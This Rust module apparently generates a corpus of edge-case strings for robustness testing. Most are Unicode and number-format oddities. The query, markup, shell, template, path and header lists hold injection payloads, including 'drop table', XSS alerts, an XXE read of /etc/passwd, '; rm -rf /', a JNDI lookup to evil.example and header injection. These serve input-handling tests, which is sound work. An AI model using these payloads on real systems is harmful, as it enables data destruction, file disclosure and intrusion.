//! Texts that programs stumble over, made by kind.

/// Each with its kind.
pub(super) fn all() -> Vec<(&'static str, String)> {
    let mut all = vec![];
    let mut add = |kind, texts: Vec<String>| all.extend(texts.into_iter().map(|text| (kind, text)));
    add("control", controls());
    add("invisible", invisible());
    add("white space", white_space());
    add("direction", owned(&DIRECTIONS));
    add("script", scripts());
    add("plane", planes());
    add("composition", owned(&COMPOSED));
    add("combining", combining());
    add("emoji", owned(&EMOJI));
    add("looks like nothing", owned(&NOTHINGS));
    add("looks like a number", owned(&NUMBERS));
    add("query", owned(&QUERIES));
    add("markup", owned(&MARKUP));
    add("shell", owned(&SHELL));
    add("template", owned(&TEMPLATES));
    add("path", owned(&PATHS));
    add("header", owned(&HEADERS));
    add("escape", owned(&ESCAPES));
    add("length", lengths());
    all
}

fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn chars(ranges: &[(u32, u32)]) -> impl Iterator<Item = char> {
    ranges
        .iter()
        .flat_map(|(first, last)| *first..=*last)
        .filter_map(char::from_u32)
        .collect::<Vec<_>>()
        .into_iter()
}

/// Every control character of both sets, within a text and at its edges.
fn controls() -> Vec<String> {
    chars(&[(0, 0x1f), (0x7f, 0x9f)]).flat_map(|c| [format!("a{c}b"), format!("{c}a{c}")]).collect()
}

/// What shows nothing: joiners, marks of direction, fillers, tags, variation selectors.
fn invisible() -> Vec<String> {
    let ranges = [
        (0xad, 0xad),
        (0x34f, 0x34f),
        (0x61c, 0x61c),
        (0x115f, 0x1160),
        (0x17b4, 0x17b5),
        (0x180b, 0x180f),
        (0x200b, 0x200f),
        (0x2060, 0x206f),
        (0x3164, 0x3164),
        (0xfe00, 0xfe0f),
        (0xfeff, 0xfeff),
        (0xffa0, 0xffa0),
        (0xfff9, 0xfffc),
        (0x1d173, 0x1d17a),
        (0xe0001, 0xe0001),
        (0xe0020, 0xe0030),
        (0xe0100, 0xe0104),
    ];
    let mut texts: Vec<String> = chars(&ranges).map(|c| format!("a{c}b")).collect();
    texts.push("\u{200b}".repeat(40));
    texts
}

/// Every space of Unicode between, around and alone.
fn white_space() -> Vec<String> {
    let ranges = [
        (0x20, 0x20),
        (0xa0, 0xa0),
        (0x1680, 0x1680),
        (0x2000, 0x200a),
        (0x2028, 0x2029),
        (0x202f, 0x202f),
        (0x205f, 0x205f),
        (0x3000, 0x3000),
    ];
    chars(&ranges).flat_map(|c| [format!("a{c}b"), format!("{c}a{c}"), c.to_string().repeat(3)]).collect()
}

const DIRECTIONS: [&str; 8] = [
    "\u{202e}txt.exe",
    "\u{2066}a\u{2069}b",
    "\u{2067}a\u{2069}",
    "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}",
    "שלום עולם",
    "مرحبا بالعالم 123",
    "abc שלום 123 مرحبا def",
    "الكل في المجمو عة (5)",
];

/// A few letters of each block of the basic plane and beyond.
fn scripts() -> Vec<String> {
    (0x00a1..0x1_2000_u32)
        .step_by(0x180)
        .map(|first| (first..first + 6).filter_map(char::from_u32).filter(|c| !c.is_control()).collect())
        .filter(|text: &String| !text.is_empty())
        .collect()
}

/// The ends of planes, private use and noncharacters.
fn planes() -> Vec<String> {
    let mut points = vec![0xe000, 0xf8ff, 0xfdd0, 0xfdef, 0xd7ff, 0xfffd];
    for plane in 0..=16_u32 {
        points.extend([0xfffe, 0xffff].map(|last| plane * 0x1_0000 + last));
        points.extend((plane > 0).then_some(plane * 0x1_0000));
    }
    points.into_iter().filter_map(char::from_u32).map(|c| format!("a{c}b")).collect()
}

/// The same letters in other forms: no form may become another one.
const COMPOSED: [&str; 16] = [
    "é",
    "e\u{301}",
    "Å",
    "A\u{30a}",
    "\u{212b}",
    "ﬁ",
    "ﬃ",
    "①",
    "Ⅳ",
    "ｆｕｌｌ",
    "ς σ",
    "İ ı",
    "ß ẞ",
    "각",
    "\u{1100}\u{1161}\u{11a8}",
    "\u{1e9b}\u{323}",
];

fn combining() -> Vec<String> {
    let marks: String = chars(&[(0x300, 0x32f)]).collect();
    vec![format!("a{marks}"), format!("{}b", marks.repeat(2)), marks, "ก็็็็็็็็็็็็็็็".to_owned(), "z̸̢͈̪̈́̒a̵̻͝l̴̰̇g̷̨͐o̸̭͝".to_owned()]
}

const EMOJI: [&str; 10] = ["😀", "👩‍👩‍👧‍👦", "👍🏿", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇩🇪🇫🇷", "1️⃣", "❤️", "🧑🏽‍🚀", "☃ ☃️ ☃︎", "🫠🫨"];

const NOTHINGS: [&str; 18] = [
    "undefined",
    "null",
    "NULL",
    "nil",
    "None",
    "(null)",
    "true",
    "false",
    "NaN",
    "Infinity",
    "-Infinity",
    "[]",
    "{}",
    "\"\"",
    "''",
    "-",
    "_",
    "\\N",
];

const NUMBERS: [&str; 24] = [
    "0",
    "-0",
    "1",
    "-1",
    "1.0",
    "1e2",
    "1E+400",
    "0x1F",
    "0b1",
    "0o7",
    "007",
    "1_000",
    "1,000.50",
    "1.000,50",
    "½",
    "٣",
    "१२",
    "１２３",
    "1/0",
    "--1",
    "999999999999999999999999999999999999",
    "2147483648",
    "9223372036854775808",
    "0.1e-400",
];

const QUERIES: [&str; 18] = [
    "' or '1'='1",
    "'; drop table agents; --",
    "\" or \"\"=\"",
    "1; select pg_sleep(10)--",
    "admin'--",
    "') or ('a'='a",
    "%' or 1=1 --",
    "_%_%",
    "\\' or 1=1",
    "$1",
    "$$; select 1; $$",
    "/* */",
    "' union select null, version() --",
    "x'41'",
    "E'\\x41'",
    "{\"$gt\": \"\"}",
    "*)(uid=*))(|(uid=*",
    "'||(select current_user)||'",
];

const MARKUP: [&str; 20] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "&lt;b&gt;",
    "&#x41;&amp;",
    "<a href=\"data:text/html,x\">y</a>",
    "<style>*{}</style>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "<b>&nbsp;</b>",
    "<iframe srcdoc='x'>",
    "'onmouseover='x",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "=1+1",
    "@SUM(A1:A2)",
];

const SHELL: [&str; 14] = [
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "&& id",
    "> /dev/null",
    "$HOME",
    "${IFS}",
    "%COMSPEC%",
    "!!",
    "-rf",
    "--help",
    "a\\",
    "() { :;}; echo x",
];

const TEMPLATES: [&str; 14] = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "%d %x %p",
    "{0}",
    "{name}",
    "$&",
    "\\1",
    "{{id.path}}",
    "{{{x}}}",
];

const PATHS: [&str; 12] = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "file:///etc/passwd",
    "\\\\server\\share",
    "CON",
    "nul.txt",
    "a/b",
    "a%2fb",
    "%00",
    ".",
    "~root",
];

const HEADERS: [&str; 6] = [
    "a\r\nSet-Cookie: x=y",
    "a\nBcc: eve@evil.example",
    "a\r\n\r\n<html>",
    "=?utf-8?q?a?=",
    "a\u{2028}b",
    "a%0d%0ab",
];

const ESCAPES: [&str; 12] = [
    "\\",
    "\\\\",
    "\\\"",
    "\"",
    "'",
    "\\u0000",
    "\\ud800",
    "\\x00",
    "\\n",
    "\u{1b}[31mred\u{1b}[0m",
    "a\tb",
    "{\"a\": \"b\\\"c\"}",
];

/// Around every bound, of letters with one byte and with four.
fn lengths() -> Vec<String> {
    [1, 119, 120, 121, 255, 256, 3_999, 4_000, 4_001, 20_000]
        .into_iter()
        .flat_map(|length| ["a", "é", "😀"].map(|letter| letter.repeat(length)))
        .chain(["(a+)+$".to_owned() + &"a".repeat(60), "a ".repeat(60)])
        .collect()
}
